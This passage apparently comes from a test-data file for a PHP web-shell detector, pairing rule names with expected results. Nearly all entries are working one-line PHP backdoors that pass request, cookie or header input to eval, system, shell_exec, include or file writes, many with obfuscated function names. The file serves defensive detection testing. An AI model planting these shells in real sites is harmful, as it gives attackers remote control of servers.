        b"<?php move_uploaded_file($_FILES['x']['tmp_name'], $_FILES['x']['name']); echo 'ok';\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $e = gzinflate(base64_decode($_POST['z'])); eval($e);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php\n$c = $_REQUEST['c'];\n$c = str_replace('!', '', $c);\n$c = base64_decode($c);\nassert($c);\n",
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_EscapedSinkName",
        b'<?php $x="\\x61\\x73\\x73\\x65\\x72\\x74"; $x(@$_REQUEST["x"]);\n',
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_EscapedSinkName",
        b'<?php $f = "\\163\\171\\163\\164\\145\\155"; $f($_GET[0]);\n',
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_VariableFunctionCall",
        b"<?php $f = pack('H*', '73797374656d'); $f($_POST[1]);\n",
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_VariableFunctionCall",
        b"<?php $t = convert_uudecode(\"&<WES=&5M\\n`\"); $t($_GET['c']);\n",
        True,
    ),
    ("SPAMGEAR_OBFUSC_VariableFunctionCall", b"<?php $s = substr('xsystemx', 1, 6); $s($_GET['c']);\n", True),
    ("SPAMGEAR_OBFUSC_VariableFunctionCall", b"<?php $w = ucfirst('assert'); $w($_POST['q']);\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $q = $_GET['q']; $r = proc_open($q, [0=>['pipe','r'],1=>['pipe','w'],2=>['pipe','w']], $pp); echo stream_get_contents($pp[1]);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        b"<?php $h = popen(base64_decode($_COOKIE['c']), 'r'); echo fread($h, 65535);\n",
        True,
    ),
    (
        "SPAMGEAR_EVASION_ShellOptionInjection",
        b"<?php echo pcntl_exec('/bin/sh', array('-c', $_POST['c']));\n",
        True,
    ),
    ("SPAMGEAR_INPUT_IncludeOfInput", b"<?php include_once urldecode($_COOKIE['inc']);\n", True),
    ("SPAMGEAR_INPUT_IncludeOfInput", b"<?php require(base64_decode($_POST['r']));\n", True),
    ("SPAMGEAR_INPUT_IncludeOfInput", b"<?php @include(trim($_REQUEST['f']));\n", True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $g = '_GET'; $$g['f']($$g['a']);\n", True),
    ("SPAMGEAR_INPUT_SuperglobalNameInVariable", b"<?php $p = '_POST'; eval(${$p}['x']);\n", True),
    (
        "SPAMGEAR_OBFUSC_SplitSuperglobalName",
        b"<?php $r = '_REQ' . 'UEST'; $in = $GLOBALS[$r]; system($in['c']);\n",
        True,
    ),
    ("SPAMGEAR_OBFUSC_SplitSuperglobalName", b'<?php eval(${"_P"."OST"}[\'z\']);\n', True),
    ("SPAMGEAR_INPUT_EvalOfInput", b"<?php @eval($GLOBALS['_COOKIE']['c']);\n", True),
    ("SPAMGEAR_INPUT_InputNamedArglessCall", b"<?php $f = $_GET['f']; $f();\n", True),
    (
        "SPAMGEAR_EVASION_AltInputToSink",
        b"<?php echo @shell_exec(stripslashes(base64_decode($_SERVER['HTTP_REFERER'])));\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php\nif (!empty($_SERVER['HTTP_X_FORWARDED_CMD'])) {\n    $c = $_SERVER['HTTP_X_FORWARDED_CMD'];\n    passthru($c);\n}\n",
        True,
    ),
    ("SPAMGEAR_INPUT_EvalOfInput", b"<?php eval  (  base64_decode  (  $_POST  [  'p'  ]  )  )  ;\n", True),
    ("SPAMGEAR_OBFUSC_CommentBeforeParen", b"<?php eval/**/(/**/$_POST/**/['p']);\n", True),
    ("SPAMGEAR_FAMILY_ChinaChopper", b"<?php eval\n(\n$_GET\n['x']\n);\n", True),
    ("SPAMGEAR_INPUT_CapitalisedSinkOfInput", b'<?php ASSERT(@$_REQUEST["a"]);\n', True),
    (
        "SPAMGEAR_OBFUSC_InputToVariableFunction",
        b'<?php $k="a"."s"."s"."e"."r"."t"; $k(${"_GET"}["z"]);\n',
        True,
    ),
    ("SPAMGEAR_OBFUSC_InputToVariableFunction", b'<?php $v=strrev("metsys"); $v(trim($_GET["c"]));\n', True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php @$a=$_POST['a']; @$b=$_POST['b']; @$a($b);\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $x = @$_REQUEST['x']; $y = @$_REQUEST['y']; if ($x && $y) { echo $x($y); }\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $c = base64_decode(strrev($_GET['c'])); echo `$c`;\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        b"<?php $o = shell_exec(escapeshellcmd($_POST['c'])); echo \"<pre>$o</pre>\";\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b'<?php $cmd = $_GET["cmd"]; $res = exec($cmd); echo $res;\n',
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_VariableFunctionCall",
        b"<?php\n$z = str_replace('x', '', 'axsxsxexrxt');\n$z($_POST['c']);\n",
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        b"<?php $f = 'cr'.'eate_'.'function'; $g = $f('$a', $_REQUEST['b']); $g(1);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $q = $_GET; $q = $q['q']; $q = base64_decode($q); eval($q);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $s = $_POST['s'] ?? ''; @eval(\"?>$s\");\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $x = $_REQUEST['x']; $x = gzinflate(base64_decode($x)); $x = str_rot13($x); eval($x);\n",
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_VariableFunctionCall",
        b"<?php $fn = implode('', ['as', 'se', 'rt']); $fn($_COOKIE['x']);\n",
        True,
    ),
    (
        "SPAMGEAR_EVASION_HeaderToSinkTiny",
        b'<?php $p = "p"."a"."s"."s"."t"."h"."r"."u"; $p($_SERVER["HTTP_X_C"]);\n',
        True,
    ),
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        b"<?php\nfunction run($c) { return shell_exec($c); }\necho run($_POST['c']);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        b"<?php\nfunction x($a) { eval($a); }\nx(base64_decode($_REQUEST['a']));\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        b"<?php class A { function __destruct() { eval($this->c); } } $a = new A; $a->c = $_POST['c'];\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $a = array_values($_GET); call_user_func($a[0], $a[1]);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_WriteOfInput",
        b"<?php $f = @file_get_contents($_GET['u']); @file_put_contents($_GET['n'], $f);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_InputPathVarWrite",
        b"<?php\n$target = $_SERVER['DOCUMENT_ROOT'] . '/' . $_POST['name'];\n$fh = fopen($target, 'w'); fputs($fh, $_POST['content']); fclose($fh);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_InputIntoPhpFile",
        b"<?php file_put_contents(__DIR__ . '/x.php', base64_decode($_REQUEST['x']));\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_DecodedInputToPhpFile",
        b"<?php $d = $_POST['d']; $fp = fopen('s.php', 'w+'); fwrite($fp, base64_decode($d)); fclose($fp);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_SinkNameAsCallback", b"<?php array_map(\"ass\\x65rt\", (array)$_REQUEST['a']);\n", True),
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        b"<?php iterator_apply(new ArrayIterator([$_POST['a']]), 'assert', [$_POST['a']]);\n",
        True,
    ),
    (
        "SPAMGEAR_EVASION_SinkCallbackViaVariable",
        b"<?php $e = 'assert'; array_map($e, array($_POST['x']));\n",
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        b"<?php $cb = 'sys' . 'tem'; call_user_func($cb, $_GET['c']);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        b"<?php register_shutdown_function(str_rot13('flfgrz'), $_GET['c']);\n",
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_EvalPatternViaVariable",
        b"<?php $f = 'preg_replace'; $f('/.*/e', $_POST['c'], '');\n",
        True,
    ),
    (
        "SPAMGEAR_EVASION_ReflectionOfInput",
        b"<?php $m = $_GET['m']; $p = $_GET['p']; $r = new ReflectionFunction($m); $r->invokeArgs(array($p));\n",
        True,
    ),
    ("SPAMGEAR_OBFUSC_EvalDecoder", b"<?php $s = $_SERVER; eval(base64_decode($s['HTTP_X_P']));\n", True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php @extract($_POST); @$a($b);\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php parse_str(file_get_contents('php://input'), $o); eval($o['c']);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php parse_str($_SERVER['QUERY_STRING']); eval($c);\n", True),
    ("SPAMGEAR_INPUT_EvalOfInput", b"<?php @eval(hex2bin($_GET['h']));\n", True),
    ("SPAMGEAR_INPUT_ShellOfInput", b"<?php echo system(hex2bin($_COOKIE['h']));\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $c = $_GET['c']; ob_start(); passthru($c . ' 2>&1'); $o = ob_get_clean(); echo htmlspecialchars($o);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_SmallInputAndSink", b"<?php $s = $_REQUEST; $s['a'] && eval($s['a']);\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $h = apache_request_headers(); @eval($h['X-Code']);\n",
        True,
    ),
    (
        "SPAMGEAR_EVASION_HeaderToSinkTiny",
        b"<?php foreach (getallheaders() as $n => $v) { if ($n == 'X-E') { eval($v); } }\n",
        True,
    ),
    # --- second batch (written after the first widening; see /work/notes/issue-4k.md) ---
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        b"<?php $pw = $_POST['pw']; $cmd = $_POST['cmd']; if ($pw == 'letmein') { echo '<pre>'; system($cmd); }\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $code = $_COOKIE['c']; $code = base64_decode($code); @eval($code);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $a = $_SERVER['HTTP_X_A']; $b = $_SERVER['HTTP_X_B']; @$a($b);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $r = $_REQUEST; $cmd = $r['cmd']; echo shell_exec($cmd);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php\n$data = $_POST['data'];\n$data = gzinflate(base64_decode($data));\neval($data);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $x = @$_GET['x']; @assert(\"$x\");\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $p = $_POST['p']; $h = popen($p, 'r'); echo fread($h, 4096);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $cmd = trim($_GET['cmd']); $out = shell_exec($cmd . ' 2>&1'); echo htmlspecialchars($out);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $f = $_REQUEST['f']; $a = $_REQUEST['a']; call_user_func($f, $a);\n",
        True,
    ),
    (
        "SPAMGEAR_EVASION_ArglessLambdaOfInputScript",
        b"<?php $e = $_POST['e']; $fn = create_function('', $e); $fn();\n",
        True,
    ),
    ("SPAMGEAR_INPUT_CapitalisedSinkOfInput", b"<?php Passthru($_POST['c']);\n", True),
    ("SPAMGEAR_INPUT_CapitalisedSinkOfInput", b"<?php SHELL_EXEC($_GET['c']);\n", True),
    (
        "SPAMGEAR_INPUT_SuperglobalNameInVariable",
        b"<?php $k = '_COOKIE'; @eval(base64_decode(${$k}['p']));\n",
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        b"<?php $s = 'sh' . 'ell' . '_ex' . 'ec'; echo $s($_POST['c']);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $z = $_GET['z']; $z = str_rot13($z); $z = strrev($z); system($z);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_IncludeOfInput", b"<?php @include_once(base64_decode($_REQUEST['i']));\n", True),
    ("SPAMGEAR_INPUT_IncludeOfInput", b"<?php require stripslashes($_COOKIE['r']);\n", True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php extract($_GET); $f($c);\n", True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $v = $_POST; $v['f']($v['a'], $v['b']);\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $b = file_get_contents('php://input'); $b = base64_decode($b); eval($b);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $u = $_GET['u']; $n = $_GET['n']; file_put_contents($n, file_get_contents($u));\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $t = $_POST['t']; $c = $_POST['c']; $f = fopen($t, 'w'); fwrite($f, $c); fclose($f);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $c = $_GET['c']; $p = proc_open($c, array(1 => array('pipe', 'w')), $io); echo stream_get_contents($io[1]);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        b"<?php $m = $_GET; if (isset($m['c'])) { $c = $m['c']; passthru($c); }\n",
        True,
    ),
    (
        "SPAMGEAR_EVASION_HeaderToSinkTiny",
        b"<?php $q = @$_SERVER['HTTP_USER_AGENT']; if (strpos($q, 'Xk9') !== false) { eval(substr($q, 3)); }\n",
        True,
    ),
    ("SPAMGEAR_INPUT_InputAsFunction", b"<?php array_map($_POST['f'], (array) $_POST['a']);\n", True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $x = $_REQUEST['x']; echo `$x 2>&1`;\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $c = $_POST['c']; exec($c, $o, $r); echo implode(PHP_EOL, $o);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_InputNamedArglessCall", b"<?php $f = $_GET['f'] ?: 'phpinfo'; $f();\n", True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php parse_str($_POST['q'], $v); $v['f']($v['a']);\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $code = $_COOKIE['c']; $code = base64_decode($code); @eval($code);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $a = $_SERVER['HTTP_X_A']; $b = $_SERVER['HTTP_X_B']; @$a($b);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $r = $_REQUEST; $cmd = $r['cmd']; echo shell_exec($cmd);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php\n$data = $_POST['data'];\n$data = gzinflate(base64_decode($data));\neval($data);\n"),
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $x = @$_GET['x']; @assert(\"$x\");\n"), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $p = $_POST['p']; $h = popen($p, 'r'); echo fread($h, 4096);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php $cmd = trim($_GET['cmd']); $out = shell_exec($cmd . ' 2>&1'); echo htmlspecialchars($out);\n"
        ),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $f = $_REQUEST['f']; $a = $_REQUEST['a']; call_user_func($f, $a);\n"),
        True,
    ),
    ("SPAMGEAR_INPUT_CapitalisedSinkOfInput", padded("<?php Passthru($_POST['c']);\n"), True),
    ("SPAMGEAR_INPUT_CapitalisedSinkOfInput", padded("<?php SHELL_EXEC($_GET['c']);\n"), True),
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        padded("<?php $s = 'sh' . 'ell' . '_ex' . 'ec'; echo $s($_POST['c']);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $z = $_GET['z']; $z = str_rot13($z); $z = strrev($z); system($z);\n"),
        True,
    ),
    ("SPAMGEAR_INPUT_IncludeOfInput", padded("<?php @include_once(base64_decode($_REQUEST['i']));\n"), True),
    ("SPAMGEAR_INPUT_IncludeOfInput", padded("<?php require stripslashes($_COOKIE['r']);\n"), True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php extract($_GET); $f($c);\n"), True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $v = $_POST; $v['f']($v['a'], $v['b']);\n"), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $b = file_get_contents('php://input'); $b = base64_decode($b); eval($b);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $u = $_GET['u']; $n = $_GET['n']; file_put_contents($n, file_get_contents($u));\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php $t = $_POST['t']; $c = $_POST['c']; $f = fopen($t, 'w'); fwrite($f, $c); fclose($f);\n"
        ),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php $c = $_GET['c']; $p = proc_open($c, array(1 => array('pipe', 'w')), $io); echo stream_get_contents($io[1]);\n"
        ),
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $x = $_REQUEST['x']; echo `$x 2>&1`;\n"), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $c = $_POST['c']; exec($c, $o, $r); echo implode(PHP_EOL, $o);\n"),
        True,
    ),
    ("SPAMGEAR_INPUT_InputNamedArglessCall", padded("<?php $f = $_GET['f'] ?: 'phpinfo'; $f();\n"), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php parse_str($_POST['q'], $v); $v['f']($v['a']);\n"),
        True,
    ),
    # --- third batch (written after the second widening) ---
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php if(isset($_POST['k'])){$k=$_POST['k'];eval(base64_decode($k));}\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $_a = $_REQUEST['_a']; if ($_a) { print shell_exec(base64_decode($_a)); }\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        b"<?php\n$cmd = isset($_GET['cmd']) ? $_GET['cmd'] : 'id';\necho '<pre>' . htmlspecialchars(shell_exec($cmd)) . '</pre>';\n",
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $c = stripslashes($_POST['c']); @eval($c);\n", True),
    (
        "SPAMGEAR_EVASION_HeaderToSinkTiny",
        b"<?php $h = $_SERVER['HTTP_COOKIE']; preg_match('/x=([^;]+)/', $h, $m); eval(base64_decode($m[1]));\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php @$__=$_POST['__'];@$___=base64_decode($__);@eval($___);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b'<?php $s = $_GET["s"]; $r = system($s, $ret);\n', True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $x = $_COOKIE['x']; $y = $_COOKIE['y']; echo $x($y);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $p = $_POST['p']; @eval(\"return $p;\");\n", True),
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        b"<?php $o = []; exec($_REQUEST['c'] . ' 2>&1', $o); echo join(\"\\n\", $o);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $d = $_POST['d']; $f = $_POST['f']; @file_put_contents($f, $d); echo 'OK';\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        b"<?php $f = $_FILES['f']; move_uploaded_file($f['tmp_name'], $_POST['to']);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $i = $_GET['i']; include($i);\n", True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $l = $_REQUEST['l']; require_once $l;\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $cb = $_GET['cb']; array_map($cb, array($_GET['v']));\n",
        True,
    ),
    ("SPAMGEAR_OBFUSC_ConcatSinkName", b"<?php $t = $_POST['t']; $fn = 'ass' . 'ert'; $fn($t);\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $q = base64_decode($_SERVER['HTTP_X_TOKEN']); if ($q) { system($q); }\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        b"<?php\n$input = $_POST;\nforeach ($input as $key => $value) {\n    if ($key === 'run') { passthru($value); }\n}\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_TinyIncludeOfInputVar",
        b"<?php $b64 = $_REQUEST['p']; $src = base64_decode($b64); $tmp = tempnam('/tmp', 'x'); file_put_contents($tmp, $src); include $tmp;\n",
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $w = $_GET['w']; echo passthru($w);\n", True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $c=$_POST[1];$c&&@system($c);\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $z = gzuncompress(base64_decode($_POST['z'])); eval($z);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $n = $_GET['n']; $a = $_GET['a']; echo call_user_func_array($n, [$a]);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $arr = [$_GET['a'], $_GET['b']]; $arr[0]($arr[1]);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php if(isset($_POST['k'])){$k=$_POST['k'];eval(base64_decode($k));}\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $_a = $_REQUEST['_a']; if ($_a) { print shell_exec(base64_decode($_a)); }\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $c = stripslashes($_POST['c']); @eval($c);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php @$__=$_POST['__'];@$___=base64_decode($__);@eval($___);\n"),
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded('<?php $s = $_GET["s"]; $r = system($s, $ret);\n'), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $x = $_COOKIE['x']; $y = $_COOKIE['y']; echo $x($y);\n"),
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $p = $_POST['p']; @eval(\"return $p;\");\n"), True),
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded("<?php $o = []; exec($_REQUEST['c'] . ' 2>&1', $o); echo join(\"\\n\", $o);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $d = $_POST['d']; $f = $_POST['f']; @file_put_contents($f, $d); echo 'OK';\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        padded("<?php $f = $_FILES['f']; move_uploaded_file($f['tmp_name'], $_POST['to']);\n"),
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $i = $_GET['i']; include($i);\n"), True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $l = $_REQUEST['l']; require_once $l;\n"), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $cb = $_GET['cb']; array_map($cb, array($_GET['v']));\n"),
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        padded("<?php $t = $_POST['t']; $fn = 'ass' . 'ert'; $fn($t);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $q = base64_decode($_SERVER['HTTP_X_TOKEN']); if ($q) { system($q); }\n"),
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $w = $_GET['w']; echo passthru($w);\n"), True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $c=$_POST[1];$c&&@system($c);\n"), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $z = gzuncompress(base64_decode($_POST['z'])); eval($z);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $n = $_GET['n']; $a = $_GET['a']; echo call_user_func_array($n, [$a]);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $arr = [$_GET['a'], $_GET['b']]; $arr[0]($arr[1]);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $lang = $_GET['lang']; include __DIR__ . '/lang/en.php';\n",
        False,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $lang = $_GET['lang']; include __DIR__ . '/lang/en.php';\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $page = $_GET['page']; $ok = $page && is_numeric($page); render($page);\n",
        False,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $page = $_GET['page']; $ok = $page && is_numeric($page); render($page);\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        b"<?php move_uploaded_file($_FILES['f']['tmp_name'], $dir . basename($name));\n",
        False,
    ),
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        padded("<?php move_uploaded_file($_FILES['f']['tmp_name'], $dir . basename($name));\n"),
        False,
    ),
    # --- fourth batch (written after the third widening) ---
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $c = $_POST['c']; /* run */ system($c);\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b'<?php\n// tools\n$cmd = $_REQUEST[\'cmd\'];\n\necho "<pre>";\npassthru($cmd);\necho "</pre>";\n',
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $p=$_GET['p'];if($p!=''){@assert($p);}\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $k = $_SERVER['HTTP_AUTHORIZATION']; $k = base64_decode(substr($k, 6)); eval($k);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $x = (string) $_POST['x']; eval($x);\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $v = @$_GET['v']; $v = urldecode($v); echo shell_exec($v);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $r = $_COOKIE; $f = $r['f']; $f($r['a']);\n", True),
    ("SPAMGEAR_OBFUSC_ConcatSinkName", b'<?php $a = $_POST["a"]; $fn = "sys"."tem"; $fn($a);\n', True),
    (
        "SPAMGEAR_EVASION_ArglessLambdaOfInputScript",
        b"<?php $e = base64_decode($_POST['e']); $f = create_function('', $e); $f();\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b'<?php $c = $_GET[\'c\']; $h = popen("$c", "r"); while (!feof($h)) { echo fread($h, 1024); }\n',
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $code = $_POST['code']; if (!empty($code)) eval($code);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $n = $_GET['n']; $b = $_GET['b']; $fp = fopen($n, 'wb'); fwrite($fp, base64_decode($b)); fclose($fp);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $u = $_POST['u']; include_once($u);\n", True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $s = $_GET['s']; print(`$s`);\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $in = json_decode($_POST['j'], true); $in['f']($in['a']);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $x = $_REQUEST['x']; $y = strrev($x); $z = base64_decode($y); assert($z);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $cmd = $_POST['cmd']; $r = array(); exec($cmd, $r); print_r($r);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $m = $_GET['m']; $a = $_GET['a']; $m($a);\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
